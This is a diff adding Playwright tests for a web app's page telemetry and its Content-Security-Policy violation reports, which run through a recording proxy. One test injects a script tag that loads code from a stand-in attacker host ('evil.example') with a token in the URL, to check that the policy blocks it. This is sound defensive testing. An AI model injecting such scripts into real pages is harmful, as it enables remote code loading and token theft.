@@ -1,0 +1,147 @@
+import { request } from "node:http";
+import { createServer, type Server } from "node:https";
+import { chromium, type Page } from "@playwright/test";
+import { type PageReport, readPageReport } from "#core/merchant/index.ts";
+import { readPolicyReports } from "#server/edge/policy-reports.ts";
+import { expectLoggedIn, logIn } from "./identity-steps.ts";
+import { ports } from "./ports.ts";
+import { selfSigned } from "./self-signed.ts";
+import { expect, home, open, test, withoutInstallOffer } from "./support.ts";
+
+/**
+ * What pages tell the edge of a visit. Browsers send reports of violations themselves, unseen by Playwright and over
+ * https alone: everything passes through a proxy in front of the site, which notes what is sent and what the edge answers.
+ */
+interface Sent {
+  readonly type: string;
+  readonly query: string;
+  readonly body: unknown;
+  readonly status: number | undefined;
+}
+
+const sent: Sent[] = [];
+let proxy: Server;
+test.use({ ignoreHTTPSErrors: true });
+
+test.beforeAll(async () => {
+  proxy = createServer(selfSigned(), (incoming, answer) => {
+    const { url = "", method, headers } = incoming;
+    const parts: Buffer[] = [];
+    incoming.on("data", (part: Buffer) => parts.push(part));
+    const passed = request({ host: "127.0.0.1", port: ports.site, path: url, method, headers }, (given) => {
+      answer.writeHead(given.statusCode ?? 502, given.headers);
+      given.pipe(answer);
+      if (method !== "POST" || !url.startsWith("/m/report")) return;
+      const type = headers["content-type"] ?? "";
+      const body: unknown = JSON.parse(Buffer.concat(parts).toString());
+      sent.push({ type, query: new URL(url, "http://site").search, body, status: given.statusCode });
+    });
+    passed.on("error", () => answer.destroy());
+    incoming.pipe(passed);
+  });
+  await new Promise<void>((resolve) => proxy.listen(ports.reports, "127.0.0.1", resolve));
+});
+test.afterAll(async () => {
+  proxy.closeAllConnections();
+  await new Promise((resolve) => proxy.close(resolve));
+});
+test.beforeEach(() => {
+  sent.length = 0;
+});
+
+const at = (path: string) => home("lotus", path, ports.reports).replace("http:", "https:");
+
+const isOfPage = ({ type }: Sent) => type.startsWith("text/plain");
+
+const pageReports = (): readonly PageReport[] =>
+  sent.filter(isOfPage).flatMap(({ body }) => readPageReport(body) ?? []);
+
+/** How often something was reported in all reports. */
+const counted = (kind: keyof NonNullable<PageReport["counts"]>): number =>
+  pageReports().reduce((sum, { counts }) => sum + (counts?.[kind] ?? 0), 0);
+
+/** The names that the page itself has of its revision and build. */
+const namesOf = (page: Page) =>
+  page.evaluate(() => {
+    const { record, build } = JSON.parse(document.getElementById("livery-data")?.textContent ?? "");
+    return { revision: String(record.revision), build: String(build) };
+  });
+
+/** As when a person goes to another site. */
+const leave = (page: Page) => page.goto("about:blank");
+
+test("a visit is reported: its start, its first screen, a log-in, a plugin's error, the largest paint and the slowest tap", async ({
+  page,
+}) => {
+  await withoutInstallOffer(page);
+  await page.route("**/m/plugins/login/line-*.js", (route) => route.abort());
+  await open(page, at("/m/login?kw=secret"));
+  const names = await namesOf(page);
+  // By itself, once the page is idle.
+  await expect.poll(() => counted("first-screen")).toBe(1);
+  await logIn(page, "player");
+  await expectLoggedIn(page, "player");
+  expect(counted("login-done")).toBe(0);
+  await leave(page);
+  await expect.poll(() => counted("login-done")).toBe(1);
+
+  expect([counted("start"), counted("first-screen"), counted("login-tried")]).toEqual([1, 1, 1]);
+  const reports = pageReports();
+  expect(reports.map(({ revision, build }) => ({ revision, build }))).toEqual(reports.map(() => names));
+  const errors = reports.flatMap((report) => report.errors ?? []);
+  expect(errors).toContainEqual({ code: "load", plugin: "login/line", screen: "login" });
+  expect(reports.flatMap(({ lcp }) => lcp ?? [])).toEqual([
+    { ms: expect.any(Number), screen: "login", element: expect.stringMatching(/^[a-z0-9]+$/) },
+  ]);
+  expect(reports.at(-1)?.inp?.screen).toBe("login");
+  expect(sent.map(({ status }) => status)).toEqual(sent.map(() => 204));
+  expect(JSON.stringify(sent)).not.toMatch(/secret|player|token/);
+});
+
+test("a visit that ends with its first screen is reported as it ends", async ({ page }) => {
+  await page.addInitScript(() => {
+    const leaveAtFirstScreen = (marks: PerformanceObserverEntryList) => {
+      if (marks.getEntriesByName("first-screen").length > 0) location.href = "about:blank";
+    };
+    new PerformanceObserver(leaveAtFirstScreen).observe({ type: "mark" });
+  });
+  await page.goto(at("/m/home"));
+  await expect.poll(() => counted("first-screen")).toBe(1);
+  expect(pageReports()).toEqual([expect.objectContaining({ counts: { start: 1, "first-screen": 1 } })]);
+});
+
+test("a page whose start script is broken reports nothing", async ({ page, context }) => {
+  const broken = { contentType: "text/javascript", body: "throw new Error('broken')" };
+  await page.route("**/m/assets/start-*.js", (route) => route.fulfill(broken));
+  await page.goto(at("/m/home"));
+  await expect(page.locator("#splash").getByRole("button")).toBeVisible({ timeout: 20_000 });
+  await leave(page);
+  // What comes later is another page's.
+  await open(await context.newPage(), at("/m/login"));
+  await expect.poll(() => counted("first-screen")).toBe(1);
+  expect(counted("start")).toBe(1);
+});
+
+test("a violation of the policy is reported by the browser itself, with the revision", async ({ launchOptions }) => {
+  // Otherwise a browser collects them for a minute.
+  const args = [...(launchOptions.args ?? []), "--short-reporting-delay"];
+  const browser = await chromium.launch({ ...launchOptions, args });
+  try {
+    const page = await browser.newPage({ ignoreHTTPSErrors: true });
+    await open(page, at("/m/home"));
+    const { revision } = await namesOf(page);
+    await page.evaluate(() => {
+      const script = document.createElement("script");
+      script.src = "https://evil.example/x.js?token=secret";
+      document.body.append(script);
+    });
+    const ofBrowser = () => sent.filter((one) => !isOfPage(one));
+    const violations = () => ofBrowser().flatMap(({ body }) => readPolicyReports(body, "lotus.localhost"));
+    await expect.poll(violations).toContainEqual({ directive: "script-src-elem", blocked: "evil.example" });
+    expect(ofBrowser().map(({ query, status }) => [query, status])).toEqual(
+      ofBrowser().map(() => [`?revision=${revision}`, 204]),
+    );
+  } finally {
+    await browser.close();
+  }
+});
